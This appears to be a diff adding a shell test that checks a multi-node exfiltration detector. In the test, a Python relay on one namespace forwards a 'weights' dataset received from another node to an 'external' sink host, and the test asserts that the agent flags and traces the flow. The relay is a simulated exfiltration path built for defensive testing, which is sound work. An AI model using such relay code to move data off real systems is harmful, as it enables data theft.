@@ -118,4 +118,149 @@ test_scope_bad() {
 	ASSERT_HAS "$out" "option '--scope': bad value 'pid:1'" "message"
 }
 
+# The fleet: a real broker, a topic per case, both nodes' agents scoped to their namespaces.
+PORT=${KAFKA_PORT:-19392}
+KL_STATE=$T/broker
+head -c 32 /dev/urandom | base64 >"$T/fleet.key"
+chmod 600 "$T/fleet.key"
+"$TOP/tools/kafka-local" start --port "$PORT" --dir "$KL_STATE" >"$T/bootstrap" 2>"$T/broker.err" || {
+	echo "broker did not start:" >&2
+	cat "$T/broker.err" >&2
+	echo "RESULT fleet: 0 passed, 1 failed"
+	exit 1
+}
+
+# fleet_config FILE TOPIC: the agents' shared configuration.
+fleet_config() {
+	cat >"$1" <<EOF2
+{"kafka": {"enabled": false, "properties": {"bootstrap.servers": "127.0.0.1:$PORT"}},
+ "fleet": {"cidrs": ["10.204.1.0/24"], "topic": "$2", "key_file": "$T/fleet.key"}}
+EOF2
+	chmod 600 "$1"
+}
+
+# nodes_start DIR TOPIC: agents for node A and node B, outputs in DIR/a and DIR/b.
+nodes_start() {
+	mkdir -p "$1/a" "$1/b"
+	fleet_config "$1/fleet.json" "$2"
+	agent_start "$1/a" "$T/inv.json" --flush-ms 200 --config "$1/fleet.json" \
+		--node-name node-a --scope "netns:/run/netns/$NSA" --status-file "$1/a/status.json" ||
+		return 1
+	AGENT_A=$AGENT_PID
+	agent_start "$1/b" "$T/inv.json" --flush-ms 200 --config "$1/fleet.json" \
+		--node-name node-b --scope "netns:/run/netns/$NSB" --status-file "$1/b/status.json" ||
+		return 1
+	AGENT_B=$AGENT_PID
+}
+
+nodes_stop() {
+	AGENT_PID=$AGENT_A
+	agent_stop
+	AGENT_PID=$AGENT_B
+	agent_stop
+	AGENT_A=""
+	AGENT_B=""
+}
+
+# wait_grep FILE TEXT: bounded poll (20 s) until FILE holds TEXT.
+wait_grep() {
+	local i
+	for i in $(seq 200); do
+		grep -qF -- "$2" "$1" 2>/dev/null && return 0
+		sleep 0.1
+	done
+	echo "'$2' never appeared in '$1'" >&2
+	return 1
+}
+
+# wait_finding FILE KIND PID: bounded poll (20 s) for a finding.
+wait_finding() {
+	local i
+	for i in $(seq 200); do
+		[ "$(nfindings "$1" "$2" "$3")" -ge 1 ] && return 0
+		sleep 0.1
+	done
+	echo "no $2 finding of pid $3 in '$1'" >&2
+	return 1
+}
+
+# B's receiver: accepts one connection on 10.204.1.2:9200, reads it to the end, waits for
+# DIR/go, then sends what it read to the external host and waits for DIR/done.
+RELAY='import os, socket, sys, time
+d = sys.argv[1]
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.settimeout(30); s.bind(("10.204.1.2", 9200)); s.listen(1)
+open(d + "/relay.listening", "w").write("1")
+c, _ = s.accept(); c.settimeout(30); data = b""
+while True:
+    b = c.recv(65536)
+    if not b: break
+    data += b
+for i in range(400):
+    if os.path.exists(d + "/go"): break
+    time.sleep(0.05)
+x = socket.create_connection(("10.204.2.2", 9300), timeout=30); x.sendall(data); x.close()
+open(d + "/relay.sent", "w").write(str(len(data)))
+for i in range(600):
+    if os.path.exists(d + "/done"): break
+    time.sleep(0.05)'
+# A's reader: reads FILE and sends it to node B.
+SENDER='import socket, sys
+data = open(sys.argv[1], "rb").read()
+c = socket.create_connection(("10.204.1.2", 9200), timeout=30,
+                             source_address=("10.204.1.1", 0))
+c.sendall(data); c.close()'
+SINK='import socket, sys
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.settimeout(30); s.bind(("10.204.2.2", 9300)); s.listen(1)
+c, _ = s.accept(); c.settimeout(30); n = 0
+while True:
+    b = c.recv(65536)
+    if not b: break
+    n += len(b)
+open(sys.argv[1], "w").write(str(n))'
+
+# flow_start DIR FILE: the external sink, B's relay and A's sender of FILE.
+flow_start() {
+	in_ns "$NSX" "$1/sink.pid" python3 -c "$SINK" "$1/sink.bytes"
+	in_ns "$NSB" "$1/relay.pid" python3 -c "$RELAY" "$1"
+	wait_file "$1/relay.listening" || return 1
+	in_ns "$NSA" "$1/sender.pid" python3 -c "$SENDER" "$2"
+	wait_file "$1/sender.pid" || return 1
+	wait_file "$1/relay.pid"
+}
+
+# A's reader sends the dataset to B (allowed); B's receiver sends it on to the external host:
+# B raises exfiltration naming node A, its process and the flow.
+test_two_nodes() {
+	local d=$T/two pr ps
+	mkdir -p "$d"
+	nodes_start "$d" "fleet-two-$$" || { _fail "agents"; return 1; }
+	flow_start "$d" "$T/ds/w.bin" || { _fail "flow"; return 1; }
+	ps=$(cat "$d/sender.pid")
+	pr=$(cat "$d/relay.pid")
+	wait_grep "$d/b/agent.err" "pid $pr tainted by node-a pid $ps" || _fail "taint on arrival"
+	touch "$d/go"
+	wait_file "$d/sink.bytes"
+	ASSERT_EQ "$(cat "$d/sink.bytes")" 70000 "bytes the external host got"
+	wait_finding "$d/b/findings.jsonl" exfiltration "$pr" || _fail "exfiltration on B"
+	touch "$d/done"
+	nodes_stop
+	local f=$d/b/findings.jsonl
+	ASSERT_EQ "$(finding "$f" exfiltration "$pr" unmapped.bytes)" 70000 "bytes"
+	ASSERT_EQ "$(finding "$f" exfiltration "$pr" resources.0.uid)" weights "dataset"
+	ASSERT_EQ "$(finding "$f" exfiltration "$pr" evidences.0.dst_endpoint.ip)" 10.204.2.2 "dst"
+	ASSERT_EQ "$(finding "$f" exfiltration "$pr" unmapped.via.hop)" remote "hop"
+	ASSERT_EQ "$(finding "$f" exfiltration "$pr" unmapped.via.from_node)" node-a "node"
+	ASSERT_EQ "$(finding "$f" exfiltration "$pr" unmapped.via.from_pid)" "$ps" "sender pid"
+	ASSERT_EQ "$(finding "$f" exfiltration "$pr" unmapped.via.from_process)" python3 "sender"
+	ASSERT_HAS "$(finding "$f" exfiltration "$pr" unmapped.via.flow)" ">10.204.1.2:9200/tcp" "flow"
+	# A sent only inside its allowed_egress.
+	ASSERT_EQ "$(nfindings "$d/a/findings.jsonl" exfiltration "$ps")" 0 "nothing on A"
+	ASSERT_EQ "$($EVQ "$d/a/status.json" last fleet.advisories_produced)" 1 "advisories"
+	ASSERT_EQ "$($EVQ "$d/b/status.json" last fleet.matched)" 1 "matched on B"
+	ASSERT_OCSF_DIR "node A output" "$d/a"
+	ASSERT_OCSF_DIR "node B output" "$d/b"
+}
+
 run_tests fleet
